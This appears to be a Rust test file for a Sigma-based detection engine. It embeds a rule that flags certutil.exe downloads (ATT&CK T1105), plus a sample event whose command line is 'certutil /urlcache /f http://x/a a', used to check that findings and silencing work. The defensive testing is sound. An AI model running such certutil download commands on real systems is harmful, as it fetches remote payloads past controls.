use super::*;
use crate::testing::{ev, profile_with_internal, run};

fn det(yaml: &str) -> Sigma {
    let mut intel = IntelSet::default();
    for r in crate::sigma::compile_text(yaml, std::path::Path::new("t.yml")).unwrap() {
        intel.sigma.push(r);
    }
    Sigma { intel: Arc::new(intel), min: 35.0 }
}

const RULE: &str = "title: Certutil download\nid: r1\nlevel: high\ntags: [attack.command-and-control, attack.t1105]\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains|windash: '-urlcache'\n  condition: sel\n";

#[test]
fn a_matching_rule_becomes_a_finding_with_its_level_and_tags() {
    let p = profile_with_internal(&["10.0.0.0/8"]);
    let evs = vec![ev::proc(
        1.0,
        "WS1",
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\System32\\certutil.exe",
        "certutil /urlcache /f http://x/a a",
    )];
    let f = run(&mut det(RULE), &evs, &p);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].draft.score, 70.0);
    assert_eq!(f[0].draft.stage, Some(Stage::CommandAndControl));
    assert_eq!(f[0].draft.attack.as_ref().unwrap()[0].to_string(), "T1105");
}

#[test]
fn other_events_and_low_levels_stay_silent() {
    let p = profile_with_internal(&["10.0.0.0/8"]);
    let evs = vec![ev::proc(
        1.0,
        "WS1",
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\System32\\certutil.exe",
        "certutil -hashfile a",
    )];
    assert!(run(&mut det(RULE), &evs, &p).is_empty());
    let info = RULE.replace("level: high", "level: informational");
    let evs = vec![ev::proc(
        1.0,
        "WS1",
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\System32\\certutil.exe",
        "certutil -urlcache",
    )];
    assert!(run(&mut det(&info), &evs, &p).is_empty());
}
